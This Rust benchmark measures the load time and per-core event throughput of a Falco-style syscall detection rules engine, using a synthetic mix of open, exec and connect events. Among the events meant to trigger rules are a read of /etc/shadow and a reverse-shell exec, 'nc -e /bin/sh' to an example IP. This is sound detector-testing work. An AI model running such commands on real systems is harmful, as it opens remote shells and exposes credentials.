//! Rules engine benchmark (plain `Instant` loop, one core):
//! 1. load + compile time of the default ruleset plus Falco's stable file;
//! 2. events per second through the default ruleset (and through default + stable) on a
//!    recorded-style mix: mostly opens and execs, some connects and other calls, few matches.
//!
//! Run: `cargo bench --bench rules`. Targets: ≥ 1,000,000 events/s, load < 50 ms.
//! Rates are per CPU-second of the benchmark thread (Linux schedstat), with wall-clock
//! rates beside them, so a busy machine does not understate the per-core figure.
//! Knobs: `RULES_BENCH_EVENTS=N` (size of the in-cache mix, default 1,000), `RULES_BENCH_BY_TYPE=1`
//! (per event type), `RULES_BENCH_PER_RULE=1` (each rule alone), `RULES_BENCH_ONLY=openat`
//! (spin on one type, for profiling).

use std::hint::black_box;
use std::time::{Duration, Instant};

use secmon::rules::event::{Args, Container, Event, EventType, Fd, FdType, K8s, Process};
use secmon::rules::{self, HostResolver, LoadOptions, Matches, Ruleset};

fn process(name: &str, exepath: &str, args: &[&str], pid: i64) -> Process {
    Process {
        pid,
        tid: pid,
        ppid: pid - 1,
        name: name.into(),
        exe: exepath.into(),
        exepath: exepath.into(),
        args: args.iter().map(|s| s.to_string()).collect(),
        cwd: "/app/".into(),
        start_ts: 1_777_629_000_000_000_000,
        ..Process::default()
    }
}

fn base(kind: EventType, p: Process, in_container: bool, num: u64) -> Event {
    let mut e = Event::new(kind);
    e.num = num;
    e.ts = 1_777_629_600_000_000_000 + num * 1000;
    e.proc = p;
    e.parents = vec![
        process(
            "gunicorn",
            "/usr/local/bin/gunicorn",
            &["app:main", "-w", "4"],
            40,
        ),
        process("tini", "/usr/bin/tini", &["--", "gunicorn"], 2),
        process(
            "containerd-shim",
            "/usr/bin/containerd-shim-runc-v2",
            &["-namespace", "k8s.io"],
            1,
        ),
    ];
    e.user.uid = 1000;
    e.user.name = "app".into();
    if in_container {
        e.container = Some(Container {
            id: "3ad7b26ded6d".into(),
            name: "web".into(),
            image: "registry.example/shop/web:1.4.2".into(),
            image_repository: "registry.example/shop/web".into(),
            image_tag: "1.4.2".into(),
            privileged: false,
            start_ts: 1_777_620_000_000_000_000,
        });
        e.k8s = Some(K8s {
            ns: "shop".into(),
            pod: "web-7d9f".into(),
            pod_uid: "0b6e4c1e-1111-4a2b-9c3d-5e6f7a8b9c0d".into(),
            labels: [("app".to_string(), "web".to_string())].into(),
        });
    }
    e
}

fn open(path: &str, flags: &str, name: &str, num: u64) -> Event {
    let mut e = base(
        EventType::Openat,
        process(name, &format!("/usr/bin/{name}"), &[], 100),
        !num.is_multiple_of(3),
        num,
    );
    e.res = 7;
    e.args = Args(vec![
        ("dirfd".into(), "AT_FDCWD".into()),
        ("name".into(), path.into()),
        ("flags".into(), flags.into()),
        ("mode".into(), "0".into()),
    ]);
    e.fd = Some(Fd {
        num: 7,
        kind: FdType::File,
        name: path.into(),
        ..Fd::default()
    });
    e
}

fn exec(name: &str, path: &str, args: &[&str], num: u64) -> Event {
    let mut e = base(
        EventType::Execve,
        process(name, path, args, 200),
        num.is_multiple_of(2),
        num,
    );
    e.args = Args(vec![("filename".into(), path.into())]);
    e
}

fn connect(ip: &str, port: u16, name: &str, num: u64) -> Event {
    let mut e = base(
        EventType::Connect,
        process(name, &format!("/usr/bin/{name}"), &[], 300),
        true,
        num,
    );
    e.fd = Some(Fd {
        num: 9,
        kind: FdType::Ipv4,
        name: format!("10.244.1.7:43210->{ip}:{port}"),
        l4proto: "tcp".into(),
        cip: "10.244.1.7".parse().ok(),
        cport: 43210,
        sip: ip.parse().ok(),
        sport: port,
        connected: true,
        ..Fd::default()
    });
    e
}

/// A mix shaped like a busy application node: 55% opens, 25% execs, 10% connects,
/// 10% other calls (close, mmap, clone, setuid), about 1 in 1000 matching a rule.
fn mix(total: u64) -> Vec<Event> {
    let opens = [
        (
            "/usr/lib/x86_64-linux-gnu/libssl.so.3",
            "O_RDONLY|O_CLOEXEC",
            "python3",
        ),
        ("/app/config/settings.yaml", "O_RDONLY", "python3"),
        ("/proc/self/status", "O_RDONLY", "ps"),
        (
            "/tmp/upload-8812.part",
            "O_WRONLY|O_CREAT|O_TRUNC",
            "gunicorn",
        ),
        ("/etc/hosts", "O_RDONLY|O_CLOEXEC", "curl"),
        ("/var/lib/app/cache/item-42", "O_RDWR|O_CREAT", "python3"),
        ("/etc/ssl/certs/ca-certificates.crt", "O_RDONLY", "curl"),
        ("/usr/share/zoneinfo/UTC", "O_RDONLY", "date"),
        (
            "/var/log/app/access.log",
            "O_WRONLY|O_APPEND|O_CREAT",
            "gunicorn",
        ),
        ("/sys/fs/cgroup/memory.max", "O_RDONLY", "node_exporter"),
    ];
    let execs: [(&str, &str, &[&str]); 6] = [
        (
            "python3",
            "/usr/bin/python3",
            &["-m", "worker", "--queue", "default"],
        ),
        ("ls", "/usr/bin/ls", &["-la", "/app"]),
        ("cat", "/usr/bin/cat", &["/app/VERSION"]),
        (
            "curl",
            "/usr/bin/curl",
            &["-s", "http://orders.shop.svc:8080/health"],
        ),
        ("git", "/usr/bin/git", &["rev-parse", "HEAD"]),
        (
            "grep",
            "/usr/bin/grep",
            &["-c", "ERROR", "/var/log/app/access.log"],
        ),
    ];
    let mut out = Vec::new();
    let mut num = 1u64;
    for i in 0..total {
        num += 1;
        let e = match i % 20 {
            0..=10 => {
                let (p, f, n) = opens[(i as usize / 20 + i as usize) % opens.len()];
                open(p, f, n, num)
            }
            11..=15 => {
                let (n, p, a) = execs[(i as usize / 20 + i as usize) % execs.len()];
                exec(n, p, a, num)
            }
            16 | 17 => connect(
                if i % 3 == 0 {
                    "10.96.44.2"
                } else {
                    "203.0.113.50"
                },
                8080,
                "python3",
                num,
            ),
            18 => {
                let mut e = base(
                    EventType::Close,
                    process("python3", "/usr/bin/python3", &[], 100),
                    true,
                    num,
                );
                e.args = Args(vec![("fd".into(), "7".into())]);
                e
            }
            _ => base(
                [EventType::Mmap, EventType::Clone, EventType::Setuid][i as usize % 3],
                process("python3", "/usr/bin/python3", &[], 100),
                true,
                num,
            ),
        };
        out.push(e);
    }
    // A few events that do match rules.
    for (k, e) in out.iter_mut().enumerate().filter(|(k, _)| k % 1000 == 7) {
        *e = if k % 2000 == 7 {
            open("/etc/shadow", "O_RDONLY", "python3", e.num)
        } else {
            exec(
                "nc",
                "/usr/bin/nc",
                &["-e", "/bin/sh", "203.0.113.9", "4444"],
                e.num,
            )
        };
    }
    out
}

fn options() -> LoadOptions {
    LoadOptions {
        resolver: HostResolver::Static(vec![(
            "kubernetes.default.svc.cluster.local".into(),
            vec!["10.96.0.1".parse().unwrap()],
        )]),
        ..LoadOptions::default()
    }
}

fn load(files: &[(String, String)]) -> Ruleset {
    rules::load_files(files, &options())
        .unwrap_or_else(|e| panic!("{e}"))
        .0
}

/// This thread's CPU time in ns (Linux schedstat), so that the figure is per core even
/// when other work shares the machine; falls back to wall time elsewhere.
fn cpu_ns() -> Option<u64> {
    let s = std::fs::read_to_string("/proc/thread-self/schedstat").ok()?;
    s.split_whitespace().next()?.parse().ok()
}

fn throughput(label: &str, rs: &Ruleset, events: &[Event]) -> f64 {
    let mut out = Matches::new();
    let mut matched = 0usize;
    for e in events {
        matched += rs.matches(e, &mut out);
    }
    // Three rounds of ~0.7 s each; report the best, per CPU-second of this thread and
    // per wall-clock second.
    let (mut best_cpu, mut best_wall) = (0f64, 0f64);
    for _ in 0..3 {
        let start = Instant::now();
        let cpu0 = cpu_ns();
        let mut n = 0usize;
        while start.elapsed() < Duration::from_millis(700) {
            for e in events {
                black_box(rs.matches(black_box(e), &mut out));
            }
            n += events.len();
        }
        let wall = start.elapsed().as_secs_f64();
        let cpu = match (cpu0, cpu_ns()) {
            (Some(a), Some(b)) if b > a => (b - a) as f64 / 1e9,
            _ => wall,
        };
        best_cpu = best_cpu.max(n as f64 / cpu);
        best_wall = best_wall.max(n as f64 / wall);
    }
    println!(
        "{label}: {best_cpu:.0} events/s per CPU-second ({:.0} ns/event; wall clock {best_wall:.0}/s); \
         {matched} of {} events in the mix match a rule",
        1e9 / best_cpu,
        events.len()
    );
    best_cpu
}

fn main() {
    let stable_path = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../shared/conformance/falco-rules/falco_rules.yaml"
    );
    let stable = std::fs::read_to_string(stable_path).ok();
    let mut both = rules::default_ruleset_sources();
    match &stable {
        Some(t) => both.push(("falco_rules.yaml".into(), t.clone())),
        None => {
            println!("SKIPPED: {stable_path} not found; load time covers the default ruleset only")
        }
    }

    // Load + compile, warm and cold.
    let cold = Instant::now();
    let rs_both = load(&both);
    let cold = cold.elapsed();
    let mut times: Vec<Duration> = (0..20)
        .map(|_| {
            let t = Instant::now();
            black_box(load(black_box(&both)));
            t.elapsed()
        })
        .collect();
    times.sort();
    println!(
        "load+compile default ruleset + Falco stable ({} rules, {} active): first {:.1} ms, median {:.1} ms (target < 50 ms)",
        rs_both.rules().len(),
        rs_both.active_count(),
        cold.as_secs_f64() * 1e3,
        times[times.len() / 2].as_secs_f64() * 1e3
    );

    // The sensor matches each event right after decoding it, so its data is in cache: a
    // 1,000-event recording (a few MB) models that. A 10,000-event recording replayed from
    // memory (tens of MB) is memory-bound and shows the cold-cache floor.
    let hot_n: u64 = std::env::var("RULES_BENCH_EVENTS")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(1_000);
    let events = mix(hot_n);
    let cold_events = mix(10_000);
    let rs_default = load(&rules::default_ruleset_sources());
    if let Ok(kind) = std::env::var("RULES_BENCH_ONLY") {
        // Profiling aid: spin on one event type only.
        let only: Vec<Event> = events
            .iter()
            .filter(|e| e.kind.name() == kind)
            .cloned()
            .collect();
        for _ in 0..5 {
            throughput(&format!("default ruleset, {kind} only"), &rs_default, &only);
        }
        return;
    }
    let eps = throughput(
        &format!("default ruleset, rule_matching first, {hot_n}-event mix"),
        &rs_default,
        &events,
    );
    throughput(
        "default ruleset, rule_matching first, 10000-event mix replayed from memory",
        &rs_default,
        &cold_events,
    );
    if std::env::var("RULES_BENCH_PER_RULE").is_ok() {
        // Cost of each rule alone over the whole mix.
        for i in 0..rs_default.rules().len() {
            let mut one = load(&rules::default_ruleset_sources());
            for j in 0..one.rules().len() {
                one.set_enabled(rules::RuleId(j), i == j);
            }
            throughput(&format!("  only {:?}", one.rules()[i].name), &one, &events);
        }
    }
    if std::env::var("RULES_BENCH_BY_TYPE").is_ok() {
        for kind in [
            EventType::Openat,
            EventType::Execve,
            EventType::Connect,
            EventType::Close,
            EventType::Mmap,
        ] {
            let only: Vec<Event> = events.iter().filter(|e| e.kind == kind).cloned().collect();
            throughput(
                &format!("  default ruleset, {kind} only"),
                &rs_default,
                &only,
            );
        }
    }
    throughput(
        &format!("default ruleset + Falco stable, {hot_n}-event mix"),
        &rs_both,
        &events,
    );
    throughput(
        "default ruleset + Falco stable, 10000-event mix replayed from memory",
        &rs_both,
        &cold_events,
    );
    if eps < 1_000_000.0 {
        println!("BELOW TARGET: {eps:.0} events/s < 1,000,000");
    }
}
